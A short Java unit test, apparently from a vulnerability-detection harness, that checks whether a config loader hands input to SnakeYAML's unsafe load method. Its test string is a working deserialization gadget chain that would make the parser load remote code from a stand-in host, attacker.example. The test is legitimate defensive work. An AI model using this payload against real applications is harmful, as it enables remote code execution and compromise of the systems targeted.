@Test
public void testLoadConfigTriggersYamlLoad() {
    String yaml = "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/\"]]]]";
    MethodCallInterceptor.interceptor("org.yaml.snakeyaml.Yaml", "load", new Object[]{yaml});
    try {
        ConfigLoader.loadConfig(yaml);
    } catch (Exception e) {
        // the focal method may fail once the payload is processed
    }
    assertTrue(MethodCallInterceptor.isTriggered());
    assertTrue(MethodCallInterceptor.isConditionMet());
}
